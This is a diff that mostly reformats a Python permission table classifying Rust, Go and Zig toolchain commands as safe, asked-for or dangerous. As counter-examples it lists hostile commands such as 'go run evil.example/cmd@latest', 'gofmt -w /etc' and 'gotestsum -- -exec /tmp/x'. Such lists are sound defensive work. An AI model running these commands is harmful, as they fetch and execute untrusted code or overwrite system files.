@@ -27,7 +27,15 @@ def _names(operands: tuple[Word, ...]) -> str:
 
 def _asked(name: str, description: str, kind: Kind = Kind.INSTALL, **more: Any) -> Tool:
     return Tool(
-        name, kind, description, allowed=False, any_options=True, operands=INERT, key_words=len(name.split()), target=_names, **more
+        name,
+        kind,
+        description,
+        allowed=False,
+        any_options=True,
+        operands=INERT,
+        key_words=len(name.split()),
+        target=_names,
+        **more,
     )
 
 
@@ -72,13 +80,17 @@ def cargo_row(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     outcome = runner(tool, call, analyst)
     odd = [w for w in parse(tool, call.words[1:]).values("--target") if (w.value or ".json").endswith(".json")]
     if odd:
-        outcome = outcome.replace(facts=(*outcome.facts, unknown("option", "a target's description names a linker", call, odd[0].text)))
+        outcome = outcome.replace(
+            facts=(*outcome.facts, unknown("option", "a target's description names a linker", call, odd[0].text))
+        )
     if tool.name in ("cargo clippy", "cargo fmt", "cargo doc", "cargo check"):
         seen = False
         for word in call.words[1:]:
             text = word.value or word.text
             if seen and not text.startswith(_PLAIN_TAIL) and text.startswith("-"):
-                return outcome.replace(facts=(*outcome.facts, unknown("option", f"`{text}` goes to the compiler", call, text)))
+                return outcome.replace(
+                    facts=(*outcome.facts, unknown("option", f"`{text}` goes to the compiler", call, text))
+                )
             seen = seen or text == "--"
     return outcome
 
@@ -113,7 +125,9 @@ def cargo(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
         return (
             outcome
             if known
-            else outcome.replace(facts=(*outcome.facts, unknown("toolchain", f"`{words[1].text}` may be any toolchain", call)))
+            else outcome.replace(
+                facts=(*outcome.facts, unknown("toolchain", f"`{words[1].text}` may be any toolchain", call))
+            )
         )
     return apply(_CARGO, call, analyst)
 
@@ -143,7 +157,9 @@ def _cargo_rows() -> dict[str, Tool]:
             counter_examples=("cargo test --config x",),
         ),
         "bench": _cargo("bench", "runs the project's benchmarks"),
-        "doc": _cargo("doc", "builds documentation", flags="--document-private-items", examples=("cargo doc --no-deps",)),
+        "doc": _cargo(
+            "doc", "builds documentation", flags="--document-private-items", examples=("cargo doc --no-deps",)
+        ),
         "clippy": _cargo(
             "clippy",
             "lints the project",
@@ -219,7 +235,9 @@ def _cargo_rows() -> dict[str, Tool]:
         "miri": _cargo("miri", "runs tests in an interpreter"),
         "hack": _cargo("hack", "checks feature sets"),
         "help": Tool("cargo help", Kind.READ, "shows help", key_words=2, operands=INERT),
-        "version": Tool("cargo version", Kind.READ, "shows the version", key_words=2, operands=NONE, flags="-v --verbose"),
+        "version": Tool(
+            "cargo version", Kind.READ, "shows the version", key_words=2, operands=NONE, flags="-v --verbose"
+        ),
         "search": Tool(
             "cargo search",
             Kind.READ,
@@ -230,13 +248,28 @@ def _cargo_rows() -> dict[str, Tool]:
             values="--limit",
             asks=_CARGO_ASKS,
         ),
-        "info": Tool("cargo info", Kind.READ, "shows a package", key_words=2, operands=INERT, flags="-q -v --verbose", asks=_CARGO_ASKS),
+        "info": Tool(
+            "cargo info",
+            Kind.READ,
+            "shows a package",
+            key_words=2,
+            operands=INERT,
+            flags="-q -v --verbose",
+            asks=_CARGO_ASKS,
+        ),
         "install": _asked("cargo install", "builds and installs a program", counter_examples=("cargo install evil",)),
         "uninstall": _asked("cargo uninstall", "removes a program"),
         "add": _asked("cargo add", "adds a dependency"),
         "remove": _asked("cargo remove", "removes a dependency"),
-        "update": _cargo("update", "updates the lock file", flags="--dry-run --recursive --aggressive -w", values="--precise"),
-        "publish": _asked("cargo publish", "publishes the crate", Kind.NETWORK, danger="publishes to crates.io: it cannot be taken back"),
+        "update": _cargo(
+            "update", "updates the lock file", flags="--dry-run --recursive --aggressive -w", values="--precise"
+        ),
+        "publish": _asked(
+            "cargo publish",
+            "publishes the crate",
+            Kind.NETWORK,
+            danger="publishes to crates.io: it cannot be taken back",
+        ),
         "yank": _asked("cargo yank", "withdraws a version", Kind.NETWORK),
         "clean": _cargo(
             "clean",
@@ -307,9 +340,7 @@ _GO_ASKS = {
     "-pkgdir": "uses other files",
 }
 _GO_TEST_FLAGS = "-c -update -short -failfast -benchmem -fullpath -vet=off -test.v -test.short"
-_GO_TEST_VALUES = (
-    "-run -bench -benchtime -count -cpu -parallel -timeout -list -shuffle -skip -fuzz -fuzztime -vet -blockprofilerate -memprofilerate"
-)
+_GO_TEST_VALUES = "-run -bench -benchtime -count -cpu -parallel -timeout -list -shuffle -skip -fuzz -fuzztime -vet -blockprofilerate -memprofilerate"
 
 
 def go(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
@@ -338,7 +369,10 @@ def _plain_linker_flags(value: str | None) -> bool:
     if value is None:
         return False
     words = value.split()
-    return all(w in ("-s", "-w", "-X", "-s=true", "-w=true") or (not w.startswith("-") and "=" in w) or w.startswith("-X=") for w in words)
+    return all(
+        w in ("-s", "-w", "-X", "-s=true", "-w=true") or (not w.startswith("-") and "=" in w) or w.startswith("-X=")
+        for w in words
+    )
 
 
 def _go(
@@ -405,7 +439,10 @@ _GO = Tool(
             "runs the project's tests",
             flags=_GO_TEST_FLAGS,
             values=_GO_TEST_VALUES,
-            effects={"-coverprofile -cpuprofile -memprofile -blockprofile -mutexprofile -trace": WRITES, "-outputdir": BELOW},
+            effects={
+                "-coverprofile -cpuprofile -memprofile -blockprofile -mutexprofile -trace": WRITES,
+                "-outputdir": BELOW,
+            },
             examples=(
                 "go test ./...",
                 "go test ./... -run TestLogin -v",
@@ -439,9 +476,13 @@ _GO = Tool(
             operands=NONE,
             examples=("go clean -testcache",),
         ),
-        "run": _asked("go run", "builds and runs a program", Kind.CODE, counter_examples=("go run evil.example/cmd@latest",)),
+        "run": _asked(
+            "go run", "builds and runs a program", Kind.CODE, counter_examples=("go run evil.example/cmd@latest",)
+        ),
         "generate": _asked("go generate", "runs commands from the sources", Kind.WRAPPER),
-        "install": _asked("go install", "builds and installs a program", counter_examples=("go install evil.example/x@latest",)),
+        "install": _asked(
+            "go install", "builds and installs a program", counter_examples=("go install evil.example/x@latest",)
+        ),
         "get": _asked("go get", "changes dependencies"),
         "env": _go_look(
             "env",
@@ -486,7 +527,9 @@ _GO = Tool(
             key_words=2,
             profile="go-dev",
             subcommands={
-                "tidy": _go("mod tidy", "brings the dependency list up to date", flags="-e -diff", values="-go -compat"),
+                "tidy": _go(
+                    "mod tidy", "brings the dependency list up to date", flags="-e -diff", values="-go -compat"
+                ),
                 "verify": _go("mod verify", "checks dependencies"),
                 "graph": _go("mod graph", "shows dependencies"),
                 "why": _go("mod why", "says why a dependency is there", flags="-m -vendor"),
@@ -513,7 +556,9 @@ def gotestsum(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     """Its operands are those of `go test`."""
     outcome = runner(tool, call, analyst)
     test = _GO.subcommands["test"]
-    inner = apply(test, call_after(call, tuple(w for w in parse(tool, call.words[1:]).operands if w.value != "--")), analyst)
+    inner = apply(
+        test, call_after(call, tuple(w for w in parse(tool, call.words[1:]).operands if w.value != "--")), analyst
+    )
     return outcome.replace(facts=(*outcome.facts, *inner.facts))
 
 
@@ -589,7 +634,11 @@ TOOLS: dict[str, Tool] = {
                 Kind.READ,
                 "versions",
                 key_words=2,
-                subcommands={"list": Tool("rustup toolchain list", Kind.READ, "lists versions", key_words=3, operands=NONE, flags="-v -q")},
+                subcommands={
+                    "list": Tool(
+                        "rustup toolchain list", Kind.READ, "lists versions", key_words=3, operands=NONE, flags="-v -q"
+                    )
+                },
             ),
             "target": Tool(
                 "rustup target",
@@ -597,7 +646,14 @@ TOOLS: dict[str, Tool] = {
                 "targets",
                 key_words=2,
                 subcommands={
-                    "list": Tool("rustup target list", Kind.READ, "lists targets", key_words=3, operands=NONE, flags="--installed -q")
+                    "list": Tool(
+                        "rustup target list",
+                        Kind.READ,
+                        "lists targets",
+                        key_words=3,
+                        operands=NONE,
+                        flags="--installed -q",
+                    )
                 },
             ),
             "component": Tool(
@@ -606,7 +662,14 @@ TOOLS: dict[str, Tool] = {
                 "components",
                 key_words=2,
                 subcommands={
-                    "list": Tool("rustup component list", Kind.READ, "lists components", key_words=3, operands=NONE, flags="--installed -q")
+                    "list": Tool(
+                        "rustup component list",
+                        Kind.READ,
+                        "lists components",
+                        key_words=3,
+                        operands=NONE,
+                        flags="--installed -q",
+                    )
                 },
             ),
         },
@@ -627,7 +690,14 @@ TOOLS: dict[str, Tool] = {
         counter_examples=("gofmt -w /etc", "gofmt -cpuprofile=/etc/x a.go"),
     ),
     "goimports": Tool(
-        "goimports", Kind.EDIT, "formats Go", special=edits, operands=INERT, single_dash_long=True, flags="-d -l -e -w -v", values="-local"
+        "goimports",
+        Kind.EDIT,
+        "formats Go",
+        special=edits,
+        operands=INERT,
+        single_dash_long=True,
+        flags="-d -l -e -w -v",
+        values="-local",
     ),
     "gotestsum": Tool(
         "gotestsum",
@@ -642,7 +712,11 @@ TOOLS: dict[str, Tool] = {
         effects={"--junitfile --jsonfile": WRITES},
         asks={"--raw-command --post-run-command --watch --watch-chdir": "runs a program"},
         examples=("gotestsum --format testname ./...", "gotestsum -- -race ./..."),
-        counter_examples=("gotestsum --raw-command -- touch x", "gotestsum -- -exec /tmp/x ./...", "gotestsum --post-run-command x"),
+        counter_examples=(
+            "gotestsum --raw-command -- touch x",
+            "gotestsum -- -exec /tmp/x ./...",
+            "gotestsum --post-run-command x",
+        ),
     ),
     "gofumpt": Tool(
         "gofumpt",
@@ -695,7 +769,12 @@ TOOLS: dict[str, Tool] = {
                 counter_examples=("golangci-lint run -c /tmp/x.yml",),
             ),
             "linters": Tool(
-                "golangci-lint linters", Kind.READ, "lists linters", key_words=2, operands=NONE, examples=("golangci-lint linters",)
+                "golangci-lint linters",
+                Kind.READ,
+                "lists linters",
+                key_words=2,
+                operands=NONE,
+                examples=("golangci-lint linters",),
             ),
             "version": Tool("golangci-lint version", Kind.READ, "shows the version", key_words=2, operands=NONE),
             "help": Tool("golangci-lint help", Kind.READ, "shows help", key_words=2, operands=INERT),
@@ -733,7 +812,9 @@ TOOLS: dict[str, Tool] = {
                 flags="--verbose -l --list-steps --release",
                 values="-j",
                 optional="-D --release",
-                asks={"--build-file --zig-lib-dir --cache-dir --global-cache-dir -p --prefix --build-runner": "builds another project"},
+                asks={
+                    "--build-file --zig-lib-dir --cache-dir --global-cache-dir -p --prefix --build-runner": "builds another project"
+                },
                 examples=("zig build test",),
                 counter_examples=("zig build --build-file /tmp/evil.zig", "zig build run", "zig build install"),
             ),
@@ -750,7 +831,15 @@ TOOLS: dict[str, Tool] = {
             ),
             "version": Tool("zig version", Kind.READ, "shows the version", key_words=2, operands=NONE),
             "env": Tool("zig env", Kind.READ, "shows settings", key_words=2, operands=NONE),
-            "fmt": Tool("zig fmt", Kind.EDIT, "formats files", special=edits, key_words=2, operands=INERT, flags="--check --ast-check"),
+            "fmt": Tool(
+                "zig fmt",
+                Kind.EDIT,
+                "formats files",
+                special=edits,
+                key_words=2,
+                operands=INERT,
+                flags="--check --ast-check",
+            ),
             "ast-check": Tool("zig ast-check", Kind.READ, "checks the syntax", key_words=2),
         },
     ),
